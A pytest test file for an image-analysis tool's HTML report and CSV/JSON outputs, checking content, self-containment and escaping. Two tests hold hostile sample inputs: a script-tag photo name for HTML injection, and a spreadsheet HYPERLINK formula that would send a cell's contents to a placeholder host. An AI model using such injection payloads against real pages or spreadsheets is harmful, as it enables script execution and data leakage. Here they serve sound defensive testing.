"""The page, the scoring report and the files say what was found."""

import csv
import json
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from apsi.analyse.analysis import Analysis
from apsi.analyse.files import CSV_FILE, JSON_FILE, as_numbers, write_files
from apsi.analyse.material import Material
from apsi.analyse.page import SCORING_PAGE, headline, remarks, write_page
from apsi.analyse.scoring import MOST, TIMINGS, write_scoring
from apsi.preprocess.engine.local import Local
from apsi.preprocess.steps import Prepared
from tests.evaluate.test_report import Page


@pytest.fixture(scope="module")
def page(analysis: Analysis, tmp_path_factory: pytest.TempPathFactory) -> Page:
    path = tmp_path_factory.mktemp("page") / "analysis.html"
    write_page(path, analysis, seed=0, seconds={"resize": 1.5, "degrade": 12.25})
    return Page(path.read_text(encoding="utf-8"))


def test_the_page_shows_every_finding_with_its_limit_and_what_to_do(page: Page, analysis: Analysis) -> None:
    for finding in analysis.findings:
        assert finding.check.limit in page.text and finding.check.origin in page.text
        if finding.photos:
            assert finding.check.remedy in page.text
    assert "5 checks found nothing" in page.text or "2 checks found nothing" in page.text
    assert "panorama.png 256 x 96" in page.text


def test_the_page_needs_no_other_file_and_runs_nothing(page: Page) -> None:
    sources = [str(image["src"]) for image in page.all("img")]
    assert sources and all(source.startswith("data:image/") for source in sources)
    assert not page.all("script") and not page.all("link")
    assert all(image["alt"] for image in page.all("img"))


def test_scores_costs_seconds_and_groups_are_on_the_page(page: Page, analysis: Analysis) -> None:
    spread = analysis.scores[0].spreads["photos"]
    assert spread is not None and f"all photos {spread.count} {spread.mean:.2f}" in page.text
    for cost in analysis.costs:
        assert f"{cost.label} {cost.copies}" in page.text
    labels = [svg["aria-label"] for svg in page.all("svg")]
    assert any("resize 1.5, degrade 12.2" in str(label) for label in labels)
    assert f"k-means put {len(analysis.placed)} photos into {analysis.structure.count} groups" in page.text
    assert analysis.nearness.split(".")[0] in page.text and "by PCA" in page.text


def test_names_from_files_are_text(analysis: Analysis, tmp_path: Path) -> None:
    name = "<script>alert(1)</script>.png"
    photos = tuple(replace(photo, name=name) if i == 0 else photo for i, photo in enumerate(analysis.material.photos))
    hostile = replace(analysis, material=replace(analysis.material, photos=photos, juror="<b>bold</b>"), copies=())
    write_page(tmp_path / "page.html", hostile, seed=0)
    found = Page((tmp_path / "page.html").read_text(encoding="utf-8"))
    assert not found.all("script") and not found.all("video") and "<b>bold</b>" in found.text


def test_what_limits_the_figures_is_said(analysis: Analysis) -> None:
    material = analysis.material
    assert not any("scored no worse" in remark for remark in remarks(analysis)) or sum(material.dropped.values())
    first = replace(material.photos[0], score=None)
    other = replace(material, photos=(first, *material.photos[1:]), dropped={"train": 7}, is_shared=True)
    said = " ".join(remarks(replace(analysis, material=other, placed=analysis.placed[:5])))
    for part in ("7 degraded photos scored no worse", "Of 1 photo no degraded copy", "Every split", "those of 5"):
        assert part in said
    told = len({i for finding in analysis.findings for i in finding.photos})
    assert headline(analysis).startswith(f"{len(material.photos)} photos, of which {told} (")
    assert headline(replace(analysis, findings=())).endswith(f"and {len(material.copies)} degraded copies")


def test_the_files_hold_what_was_found(analysis: Analysis, tmp_path: Path) -> None:
    write_files(tmp_path, analysis)
    numbers = json.loads((tmp_path / JSON_FILE).read_text())
    assert numbers == json.loads(json.dumps(as_numbers(analysis)))
    assert {one["name"]: len(one["photos"]) for one in numbers["findings"]} == analysis.found
    assert sum(numbers["clusters"]["sizes"]) == numbers["photos"] == len(analysis.material.photos)
    with (tmp_path / CSV_FILE).open(newline="", encoding="utf-8") as file:
        rows = {row["file"]: row for row in csv.DictReader(file)}
    assert len(rows) == len(analysis.material.photos)
    assert rows["dark.png"]["findings"] == "dark low_contrast"
    assert rows["usual 04.png"]["copy_of"] == rows["usual 04.png"]["nearest"] == "same as usual 04.png"
    assert float(rows["usual 04.png"]["nearest_distance"]) == pytest.approx(0, abs=1e-6)
    assert (rows["panorama.png"]["width"], rows["panorama.png"]["height"]) == ("256", "96")
    for i, photo in enumerate(analysis.material.photos):
        assert float(rows[photo.name]["score"]) == photo.score
        assert float(rows[photo.name]["blur"]) == analysis.looked[i].measures.blur
        drops = [copy.drop for copy in analysis.material.copies if copy.photo == i]
        assert float(rows[photo.name]["mean_drop"]) == pytest.approx(np.mean(drops))


def test_a_spreadsheet_runs_no_name_of_a_photo(analysis: Analysis, tmp_path: Path) -> None:
    name = '=HYPERLINK("http://x/?"&A1).jpg'
    photos = tuple(replace(photo, name=name) for photo in analysis.material.photos)
    write_files(tmp_path, replace(analysis, material=replace(analysis.material, photos=photos), copies=()))
    with (tmp_path / CSV_FILE).open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert {row["file"] for row in rows} == {f"'{name}"} and {row["nearest"] for row in rows} <= {"", f"'{name}"}


@pytest.mark.slow
def test_the_scoring_report_has_the_seconds_of_steps_where_they_are_known(made: Prepared, tmp_path: Path) -> None:
    seconds = write_scoring(made.folder, tmp_path, Local(2), seed=0)
    without = Page((tmp_path / SCORING_PAGE).read_text(encoding="utf-8"))
    (tmp_path / TIMINGS).write_text(json.dumps({"resize": 0.5, "score": 2}))
    write_scoring(made.folder, tmp_path, Local(2), seed=0)
    found = Page((tmp_path / SCORING_PAGE).read_text(encoding="utf-8"))
    assert seconds >= 0 and "Time of each step" in found.text and "Time of each step" not in without.text
    for title in ("Highest scores", "Lowest scores", "What each transform costs", "Copies", "Groups"):
        assert title in found.text
    assert "Findings" not in found.text and "task.limits" not in found.text
    assert re.search(r"looks alike", found.text)  # as preparing found them


@pytest.mark.slow
def test_the_scoring_report_places_some_of_many_photos(
    made: Prepared, material: Material, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert MOST < 5000
    monkeypatch.setattr("apsi.analyse.scoring.MOST", 8)
    write_scoring(made.folder, tmp_path, Local(2), seed=0)
    text = Page((tmp_path / SCORING_PAGE).read_text(encoding="utf-8")).text
    assert "Groups are those of 8 of the photos" in text and f"{len(material.photos)} photos, scored" in text
